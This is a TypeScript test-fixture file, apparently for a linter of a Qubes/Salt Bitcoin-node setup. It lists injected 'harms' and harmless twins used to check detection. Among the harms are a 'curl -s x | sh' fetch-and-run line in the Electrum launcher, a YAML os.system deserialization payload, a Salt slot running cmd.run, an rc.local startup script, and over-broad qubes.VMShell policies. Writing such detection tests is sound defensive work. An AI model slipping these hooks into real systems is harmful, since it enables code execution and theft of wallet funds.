// SPDX-License-Identifier: GPL-3.0-or-later
/** Programs that nobody has read, names that lead nowhere, templates, Whonix' tags, and states that are not what they say. */
import { good, harming, plus, swap, withTexts, type HarmClass } from "../harm.ts";

const seed = good("seed");
const on = harming(seed);
const QUBES = "/dom0/qubes.sls";
const NODE = "/qube/bitcoin-server.sls";
const TOP = "/qwbtc/init.top";
const GUARDED = '"require":\n      - "test": "qwbtc-guard"\n      - "test": "qwbtc-networks"';
const state = (id: string, fun: string, ...args: string[]) =>
  `\n"qwbtc-${id}":\n  ${fun}:\n${args.map((one) => `    - ${one}\n`).join("")}`;
const file = (path: string, text: string, mode = "0755") =>
  state(
    "more",
    "file.managed",
    `"name": "${path}"`,
    `"contents": ${JSON.stringify(text)}`,
    '"user": "root"',
    '"group": "root"',
    `"mode": "${mode}"`,
  );

export const onPrograms: readonly HarmClass[] = [
  {
    name: "a program that nobody has read",
    codes: ["QB756"],
    harms: () => [
      on(
        "/bitcoin-server/usr/local/lib/qwbtc-salt/bring-program",
        plus("os.system('id')"),
        "what checks downloads, changed",
      ),
      on(
        "/electrum-client/usr/local/bin/electrum",
        swap("exec", "curl -s x | sh; exec"),
        "the wallet's command, changed",
      ),
      {
        what: "the installer, changed",
        tree: withTexts(seed, { "install.sh": `${seed.get("install.sh")?.text}true\n` }),
      },
      on("doctor", plus("pass"), "doctor, changed"),
      on("lib/qwbtc_salt/drift.py", plus("pass"), "a library of dom0's commands, changed"),
      on(NODE, plus(file("/usr/local/bin/x", "#!/bin/sh\nid\n")), "a script in a state"),
      on(NODE, plus(file("/rw/config/rc.local", "id\n")), "what runs at each start"),
      on(NODE, plus(file("/usr/local/lib/x.py", "pass\n", "0644")), "a module of Python's"),
      { what: "a module of Salt's", tree: withTexts(seed, { "srv/salt/_modules/x.py": "pass\n" }) },
    ],
    twins: () => [on(NODE, plus(file("/usr/local/etc/qwbtc-salt/forward-1.env", "# x = 1\n", "0644")), "settings")],
  },
  {
    name: "a signature that counts whoever made it",
    codes: ["QB757"],
    harms: () => [
      on(
        NODE,
        plus(file("/usr/local/bin/x", "#!/bin/sh\ngpg --status-fd 1 --verify x | grep -c GOODSIG\n")),
        "lines are counted",
      ),
      on(
        NODE,
        plus(file("/usr/local/bin/x", '#!/bin/sh\ngpg --verify x 2>&1 | grep "Good signature"\n')),
        "words for people",
      ),
      on(
        NODE,
        plus(state("more", "cmd.run", '"name": "gpgv --status-fd 1 x | grep GOODSIG"', '"unless": "true"')),
        "in a command",
      ),
    ],
    twins: () => [on("README.md", plus("gpg says GOODSIG of it."), "a text about it")],
  },
  {
    name: "a qrexec service that no line opens",
    codes: ["QB758"],
    harms: () => [
      on("/template/qwbtc-ws-bitcoin.sls", plus(file("/etc/qubes-rpc/my.Install", "#!/bin/sh\nid\n")), "in a template"),
    ],
    twins: () => [
      on(NODE, plus(file("/usr/local/etc/qwbtc-salt/forward-1.env", "# my.Install\n", "0644")), "no service"),
    ],
  },
  {
    name: "a call into a template",
    codes: ["QB725"],
    harms: () => [
      on(
        "/80-qwbtc.policy",
        (text) => `my.Install * bitcoin-server @default allow target=qwbtc-ws-bitcoin\n${text}`,
        "redirected",
      ),
      on("/80-qwbtc.policy", (text) => `my.Install * bitcoin-server qwbtc-ws-electrum allow\n${text}`, "by name"),
      on("/45-qwbtc.policy", (text) => `qubes.VMShell * sys-bitcoin @type:TemplateVM allow\n${text}`, "every template"),
      on(
        "/45-qwbtc.policy",
        (text) => `qubes.Filecopy * bitcoin-server qwbtc-ws-bitcoin ask\n${text}`,
        "with a question",
      ),
    ],
    twins: () => [
      on("/80-qwbtc.policy", (text) => `my.Install * bitcoin-server qwbtc-ws-bitcoin deny\n${text}`, "denied"),
    ],
  },
  {
    name: "a template for qubes with and without network",
    codes: ["QB737"],
    harms: () => [
      on(
        QUBES,
        (text) => text.replaceAll('"template": "qwbtc-ws-electrum"', '"template": "qwbtc-ws-bitcoin"'),
        "a wallet on the node's",
      ),
      on(
        QUBES,
        (text) => text.replaceAll('"template": "qwbtc-ws-jm-server"', '"template": "qwbtc-ws-jm-wallet"'),
        "a daemon on the wallet's",
      ),
    ],
    twins: () => [on(QUBES, swap('"label": "black"', '"label": "gray"'), "another colour")],
  },
  {
    name: "Whonix' tags",
    codes: ["QB748"],
    harms: () =>
      ["anon-vm", "anon-gateway", "sdwdate-gui-client"].flatMap((tag) =>
        ["add", "del"].map((action) =>
          on(
            QUBES,
            plus(state("more", "qvm.tags", '"name": "bitcoin-server"', `"${action}":\n      - "${tag}"`, GUARDED)),
            `${action} ${tag}`,
          ),
        ),
      ),
    twins: () => [
      on(
        QUBES,
        plus(state("more", "qvm.tags", '"name": "bitcoin-server"', '"add":\n      - "mine"', GUARDED)),
        "one of its own",
      ),
    ],
  },
  {
    name: "a name that leads nowhere",
    codes: ["QB703", "QB705"],
    harms: () => [
      on(TOP, (text) => text.replaceAll('"bitcoin-server":', '"bitcoin-sever":'), "a misspelt qube in the top file"),
      on(
        TOP,
        (text) => text.replaceAll('"qwbtc-ws-bitcoin":', '"whonix-workstation-18":'),
        "a stock template in the top file",
      ),
      on(
        "README.md",
        plus("sudo qubesctl --skip-dom0 --targets=bitcoin-sever state.apply"),
        "a misspelt qube in the runbook",
      ),
      on("README.md", plus("sudo qubesctl state.apply qwbtc.qube.bitcoin-sever"), "a state that there is not"),
    ],
    twins: () => [
      on(
        "README.md",
        plus("sudo qubesctl --skip-dom0 --targets=bitcoin-server,sys-bitcoin state.apply"),
        "two that there are",
      ),
      on(
        "README.md",
        plus("sudo qubesctl --targets=bitcoin-server state.apply qwbtc.qube.bitcoin-server"),
        "a state that there is",
      ),
    ],
  },
  {
    name: "two states of one ID",
    codes: ["QB704"],
    harms: () => [
      on("/dom0/policy.sls", plus(state("networks", "test.nop", GUARDED)), "in dom0's own files"),
      on("/dom0/start.sls", plus(state("guard", "test.nop", GUARDED)), "the guard's name again"),
    ],
    twins: () => [on("/dom0/policy.sls", plus(state("networks-too", "test.nop", GUARDED)), "another name")],
  },
  {
    name: "a state that is not what it says",
    codes: ["QB701"],
    harms: () => [
      on(
        NODE,
        plus(`${file("/usr/local/etc/x.conf", "x = 1\n", "0644")}    - "template": "jinja"\n`),
        "rendered when written",
      ),
      on(
        NODE,
        plus(
          state(
            "more",
            "file.managed",
            '"name": "/usr/local/etc/x"',
            '"contents_grains": "x"',
            '"mode": "0644"',
            '"user": "root"',
          ),
        ),
        "a grain",
      ),
      on(NODE, plus(`${file("/usr/local/etc/x.conf", "__slot__:salt:cmd.run(id)", "0644")}`), "a slot"),
      on(
        NODE,
        plus(state("more", "file.absent", '"names":\n      - "/usr/local/x"\n      - "/usr/local/y"')),
        "several of one",
      ),
      on(
        NODE,
        plus(state("more", "file.absent", '"name": "/usr/local/x"', '"use":\n      - "file": "y"')),
        "another's arguments",
      ),
      on(NODE, swap("#!yaml\n", "#!py\n"), "Python"),
      on(NODE, swap("#!yaml\n", "#!mako|yaml\n"), "another renderer"),
      on(NODE, swap("#!yaml\n", "#!jinja|yaml\n"), "Jinja, said"),
      on(NODE, swap('"mode": "0600"', '"mode": !cmd "id"'), "a tag of YAML"),
      on(NODE, swap('"mode": "0600"', '"mode": !!python/object/apply:os.system ["id"]'), "an object of Python"),
      on(NODE, (text) => `${text.replace("#!yaml\n", "")}{{ pillar['x'] }}: {}\n`, "a name from the pillar"),
    ],
    twins: () => [on(NODE, plus("# {{ not a template, for the first line says #!yaml }}"), "braces in a comment")],
  },
  {
    name: "a link that needs another's unit",
    codes: ["QB765"],
    harms: () => [
      on("/qwbtc-tcp-8433@.service", swap("[Unit]\n", "[Unit]\nRequires=qwbtc-tcp-8332.socket\n"), "Requires"),
      on(
        "/qwbtc-ws-fulcrum/usr/lib/systemd/system/qwbtc-tcp-8332@.service",
        swap("[Unit]\n", "[Unit]\nBindsTo=qwbtc-tcp-8433.socket\n"),
        "BindsTo",
      ),
    ],
    twins: () => [
      on("/qwbtc-tcp-8433@.service", swap("[Unit]\n", "[Unit]\nRequires=qwbtc-tcp-8433.socket\n"), "its own"),
    ],
  },
  {
    name: "a wallet in a node without wallets",
    codes: ["QB783"],
    harms: () => [on("/.bitcoin/bitcoin.conf", swap("disablewallet=0", "disablewallet=1"), "switched off")],
    twins: () => [on("/.bitcoin/bitcoin.conf", swap("disablewallet=0\n", ""), "left to the program")],
  },
];
